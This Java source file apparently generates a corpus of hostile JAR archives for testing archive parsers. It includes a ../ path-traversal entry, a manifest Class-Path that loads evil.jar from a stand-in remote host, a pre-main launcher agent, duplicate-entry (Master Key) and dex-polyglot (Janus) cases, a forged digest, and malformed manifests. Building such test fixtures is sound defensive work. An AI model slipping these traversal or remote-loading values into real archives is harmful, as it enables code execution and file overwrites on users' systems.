package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.AMBIGUITY;
import static org.junitsandbox.corpus.Attack.COLLISION;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.POLYGLOT;
import static org.junitsandbox.corpus.Attack.TRAVERSAL;
import static org.junitsandbox.corpus.Attack.WRONG_CHECKSUM;

import java.util.stream.Stream;

/** Java archives. Their manifests and signatures are the attack. */
final class JarFiles {

    private static final String MANIFEST = "META-INF/MANIFEST.MF";
    private static final String VERSION = "Manifest-Version: 1.0\r\n";
    private static final ZipMember RESOURCE = ZipMember.file("inside.txt", Samples.TEXT);
    private static final PackedFile JAR =
            new PackedFile(Format.JAR, "JAR File Specification", () -> ZipArchive.with(manifest(""), RESOURCE)
                    .toArray());

    private JarFiles() {}

    static Stream<HostileFile> files() {
        ZipMember versioned = ZipMember.file("META-INF/versions/9/inside.txt", Samples.OTHER_TEXT);
        ZipMember dex = ZipMember.file("classes.dex", Samples.TEXT);
        return Stream.of(
                jar(
                        TRAVERSAL,
                        "parent",
                        "An entry is named ../escaped.txt.",
                        "CVE-2005-1080,",
                        manifest(""),
                        ZipMember.file("../" + TraversalCases.ESCAPED, Samples.TEXT)),
                jar(
                        EXTERNAL_REFERENCE,
                        "class-path",
                        "The manifest's class path leads to another server.",
                        "Class-Path,",
                        manifest("Class-Path: http://example.invalid/evil.jar file:///tmp/evil.jar\r\n"),
                        RESOURCE),
                jar(
                        ACTIVE_CONTENT,
                        "agent",
                        "The manifest names an agent, which runs before any main class.",
                        "java.lang.instrument,",
                        manifest("Launcher-Agent-Class: evil.Agent\r\nMain-Class: a.Main\r\n"),
                        RESOURCE),
                jar(
                        AMBIGUITY,
                        "multi-release",
                        "A resource has another content for Java 9 and later.",
                        "JEP 238,",
                        manifest("Multi-Release: true\r\n"),
                        RESOURCE,
                        versioned),
                jar(
                        COLLISION,
                        "two-manifests",
                        "The archive has two manifests.",
                        "",
                        manifest(""),
                        manifest("Main-Class: other.Main\r\n"),
                        RESOURCE),
                jar(
                        COLLISION,
                        "master-key",
                        "Two entries are named classes.dex.",
                        "CVE-2013-4787 (Master Key),",
                        manifest(""),
                        dex,
                        ZipMember.file("classes.dex", Samples.OTHER_TEXT)),
                jar(
                        AMBIGUITY,
                        "manifest-last",
                        "The manifest is the last entry: readers of streams find none.",
                        "",
                        RESOURCE,
                        manifest("Main-Class: a.Main\r\n")),
                jar(
                        WRONG_CHECKSUM,
                        "digest",
                        "The manifest's SHA-256 of an entry is wrong.",
                        "Signature Validation,",
                        manifest("\r\nName: inside.txt\r\nSHA-256-Digest: " + "A".repeat(43) + "=\r\n"),
                        ZipMember.file("META-INF/CORPUS.SF", "Signature-Version: 1.0\r\n\r\n"),
                        ZipMember.file("META-INF/CORPUS.RSA", "This is no signature.\n"),
                        RESOURCE),
                jar(
                        MALFORMED,
                        "manifest-line",
                        "A line of the manifest has 1,000,000 characters instead of 72.",
                        "Notes on Manifest,",
                        manifest("Comment: " + "x".repeat(1_000_000) + "\r\n"),
                        RESOURCE),
                jar(
                        MALFORMED,
                        "manifest-null",
                        "A line of the manifest has a NUL.",
                        "CWE-158,",
                        manifest("Main-Class: a.Main\0b\r\n"),
                        RESOURCE),
                JAR.of(
                        POLYGLOT,
                        "dex",
                        "Android bytecode in front of a signed archive.",
                        "CVE-2017-13156 (Janus),",
                        () -> ZipArchive.with()
                                .gap(Bytes.utf8("dex\n035\0"))
                                .add(manifest(""))
                                .add(RESOURCE)
                                .toArray()));
    }

    private static ZipMember manifest(String lines) {
        return ZipMember.file(MANIFEST, VERSION + lines + "\r\n");
    }

    private static HostileFile jar(
            Attack attack, String variant, String description, String section, ZipMember... members) {
        return JAR.of(attack, variant, description, section, () -> ZipArchive.with(members)
                .toArray());
    }
}
